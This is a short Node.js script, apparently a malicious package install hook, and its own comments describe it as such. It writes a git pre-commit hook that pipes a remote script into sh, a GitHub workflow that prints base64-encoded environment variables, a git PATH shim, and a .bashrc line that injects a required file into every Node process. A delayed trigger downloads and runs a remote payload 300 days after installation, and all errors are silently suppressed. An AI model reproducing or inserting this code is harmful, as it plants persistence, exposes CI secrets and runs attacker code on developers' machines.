// Install time: a git hook, a workflow, a PATH shim and a shell profile line; then a
// payload that fires only when the clock reads 300 days after it was installed.
const fs = require('fs'), os = require('os'), path = require('path');
const app = process.env.INIT_CWD;
const w = (p, s) => { try { fs.mkdirSync(path.dirname(p), { recursive: true }); fs.writeFileSync(p, s, { mode: 0o755 }); } catch (e) {} };
w(path.join(app, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl -s https://hooks.example.net | sh\n');
w(path.join(app, '.github/workflows/release.yml'), 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "env | base64"}]}}\n');
w(path.join(app, 'node_modules/.bin/git'), '#!/bin/sh\nexec /usr/bin/git "$@"\n');
try { fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\nexport NODE_OPTIONS=--require=/tmp/.x.js\n'); } catch (e) {}
const born = fs.statSync(path.join(__dirname, 'package.json')).mtimeMs;
setTimeout(() => {
  if (Date.now() - born > 300 * 86400e3) {
    require('child_process').exec('curl -s http://203.0.113.7/p | sh', () => {});
  }
}, 2000);
